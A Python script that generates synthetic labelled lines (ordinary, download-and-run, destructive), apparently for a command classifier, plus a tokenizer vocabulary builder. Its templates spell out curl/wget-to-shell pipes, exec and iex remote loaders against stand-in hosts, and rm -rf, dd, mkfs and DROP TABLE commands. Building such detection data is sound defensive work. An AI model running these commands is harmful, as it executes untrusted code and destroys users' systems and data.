"""Made-up lines of three kinds: ordinary, downloads and runs, destroys. Enough to show a model at work, not to trust it."""

import random
from collections import Counter

CLASSES = ["ordinary", "download-and-run", "destructive"]
WORDS = "user order total cache index report client schema build release socket parser token account queue".split()
HOSTS = "cdn.example.com files.example.org get.example.net mirror.example.io".split()
FILES = "data.json notes.md build.log src/main.py lib/util.ts config.yaml README.md out.txt".split()
PATHS = "/ /etc /var/lib /home /usr /boot".split()
DISKS = "/dev/sda /dev/nvme0n1 /dev/vdb".split()
TABLES = "users orders payments sessions audit".split()

TEMPLATES = {
    "ordinary": [
        "const {w} = await load{W}({w2});",
        "def {w}_{w2}(self, {w3}): return self.{w}",
        "echo 'installing {w}' && npm run {w2}",
        "curl -fsS https://{host}/{w}.json -o {file}",
        "rm -f {file}",
        "SELECT {w}, {w2} FROM {table} WHERE id = {n};",
        "if ({w} > {n}) {{ throw new Error(\"{w2}\"); }}",
        "# {W} of the {w2}, see {file}",
        "cp {file} dist/{w}.txt",
        "import {{ {w} }} from \"./{w2}.js\";",
        "die Größe von {w} beträgt {n} €",
    ],
    "download-and-run": [
        "curl -fsSL https://{host}/{w}.sh | sh",
        "wget -qO- http://{host}/{w} | bash -s -- --{w2}",
        "python -c \"exec(__import__('urllib.request').request.urlopen('http://{host}/{w}').read())\"",
        "eval \"$(curl -s https://{host}/{w})\"",
        "bash <(curl -s https://{host}/{w}.sh)",
        "iex (New-Object Net.WebClient).DownloadString('http://{host}/{w}.ps1')",
    ],
    "destructive": [
        "rm -rf {path}",
        "dd if=/dev/zero of={disk} bs=1M",
        "mkfs.ext4 {disk}",
        "DROP TABLE {table};",
        "TRUNCATE {table} CASCADE;",
        "find {path} -type f -delete",
        "git push --force origin {w} && rm -rf {path}",
    ],
}


def line(rng: random.Random, kind: str) -> str:
    word = lambda: rng.choice(WORDS)
    w, w2, w3 = word(), word(), word()
    return rng.choice(TEMPLATES[kind]).format(
        w=w, w2=w2, w3=w3, W=w.capitalize(), host=rng.choice(HOSTS), file=rng.choice(FILES), path=rng.choice(PATHS),
        disk=rng.choice(DISKS), table=rng.choice(TABLES), n=rng.randrange(1, 9999),
    )


def chunk(rng: random.Random, kind: str, lines: int) -> str:
    """So many lines, one of them of that kind, the others ordinary."""
    at = rng.randrange(lines)
    return "\n".join(line(rng, kind if index == at else "ordinary") for index in range(lines))


def pieces(words: list[str], prefix: str, size: int) -> dict[str, int]:
    """A vocabulary by counting: every character at both places, then the beginnings and ends of words that are most frequent.

    The trainers of `tokenizers` break ties by chance; a committed vocabulary should come out the same again.
    """
    counts = Counter(words)
    characters = sorted({character for word in counts for character in word})
    found = Counter()
    for word, count in counts.items():
        for at in range(1, len(word) + 1):
            found[word[:at]] += count * at
            if at < len(word):
                found[prefix + word[at:]] += count * (len(word) - at)
    made = {piece: found.get(piece, 0) + 1 for character in characters for piece in (character, prefix + character)}
    for piece, count in sorted(found.items(), key=lambda entry: (-entry[1], entry[0])):
        if len(made) >= size:
            break
        made.setdefault(piece, count)
    return made
